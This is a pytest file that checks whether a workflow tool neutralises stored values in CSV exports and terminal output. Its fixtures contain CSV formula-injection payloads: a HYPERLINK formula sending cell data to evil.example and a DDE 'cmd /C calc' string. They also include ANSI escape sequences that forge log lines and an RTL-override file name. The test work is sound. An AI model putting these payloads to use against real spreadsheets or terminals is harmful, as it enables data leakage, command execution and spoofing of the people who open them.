"""Stored values are shown inert: CSV cells are not formulas, terminal lines are not escape sequences."""

import csv
import io

import pytest
from sqlalchemy import update

from builders import DC, people
from conftest import collab
from workflow.db import UnitOfWork, engine_for
from workflow.inert import csv_cell, terminal
from workflow.model import User
from workflow.report_formats import render
from workflow.service import Collab

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ESCAPED_LINE = "ok\x1b[31m red\x1b[0m\n  999  2026-01-01  root             advance scoping->bau"


@pytest.mark.parametrize(("given", "expected"), [
    (FORMULA, "'" + FORMULA),
    ("+44 1392 000000", "'+44 1392 000000"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),
    ("-12.5", "-12.5"),  # a plain negative number stays a number
    ("-3e4", "-3e4"),
    (-12.5, -12.5),
    (-3, -3),
    (None, None),
    ("Strategic Alliance", "Strategic Alliance"),
    ("a=b", "a=b"),
])
def test_csv_cell(given, expected) -> None:
    assert csv_cell(given) == expected


@pytest.mark.parametrize(("given", "expected"), [
    ("plain text, £ and é", "plain text, £ and é"),
    ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
    ("two\nlines", "two\\nlines"),
    ("over\rwrite", "over\\rwrite"),
    ("tab\there", "tab\\there"),
    ("bell\x07 and del\x7f", "bell\\x07 and del\\x7f"),
    ("next line\x85", "next line\\x85"),
    ("sep\u2028arator", "sep\\u2028arator"),
    ("evil\u202etxt.exe", "evil\\u202etxt.exe"),
    (42, "42"),
])
def test_terminal(given, expected) -> None:
    assert terminal(given) == expected


def _hold_with_reason(db: str, reason: str) -> None:
    """A stored reason that the entry checks would refuse today: written before them, or by another program."""
    from datetime import datetime

    from workflow import audit
    from workflow.clock import LONDON

    people(db)
    pm = Collab.open(db, "pm")
    pm.new("SA", "Strategic Alliance")
    with pm.ctx.uow.write() as session:
        audit.append(session, actor="pm", action="hold", recorded_at=datetime.now(LONDON),
                     effective_on=datetime.now(LONDON).date(), collaboration="SA", from_stage="scoping",
                     to_stage="on-hold", reason=reason)


def test_history_text_cannot_be_coloured_or_forged(db: str) -> None:
    _hold_with_reason(db, ESCAPED_LINE)
    out = collab(db, "history", "SA", actor="audit", check=0).out
    assert "\x1b" not in out
    lines = out.splitlines()
    assert len(lines) == 2  # registered, held: the reason's line break forged no third line
    assert lines[1].endswith(f"({terminal(ESCAPED_LINE)})")


def test_history_csv_cells_are_not_formulas(db: str) -> None:
    _hold_with_reason(db, FORMULA)
    rows = list(csv.DictReader(io.StringIO(collab(db, "history", "SA", "--csv", actor="audit", check=0).out)))
    assert rows[-1]["reason"] == "'" + FORMULA


def test_tables_escape_stored_values(db: str) -> None:
    Collab.open(db).add_user("root", "admin")
    Collab.open(db, "root").add_user("cc", "chief-officer", partner="Dorset")
    with UnitOfWork(engine_for(db)).write(history=False) as session:  # stored before entry checks refused it
        session.execute(update(User).where(User.name == "cc").values(partner="\x1b[2JDorset"))
    out = collab(db, "user", "list", actor="root", check=0).out
    assert "\x1b" not in out and "\\x1b[2JDorset" in out


def test_report_csv_cells_are_not_formulas(db: str) -> None:
    people(db)
    pm = Collab.open(db, "pm")
    pm.new("SA", FORMULA)
    pm.add_partner("SA", DC)
    pm.add_partner("SA", "@evil")
    table = list(csv.DictReader(io.StringIO(collab(db, "report", "SA", "--format", "csv", actor="audit", check=0).out)))
    assert table[0]["title"] == "'" + FORMULA
    assert {row["name"] for row in table if row["section"] == "partner"} == {DC, "'@evil"}


def test_report_csv_keeps_negative_figures_numeric() -> None:
    facts = {"report": {"kind": "portfolio"}, "collaborations": [], "reviews": [],
             "verification": {"ok": True, "events": -1, "first_bad": None, "problem": "-5", "head": "=x"}}
    row = list(csv.DictReader(io.StringIO(render(facts, "csv"))))[0]
    assert (row["events"], row["problem"], row["head"]) == ("-1", "-5", "'=x")
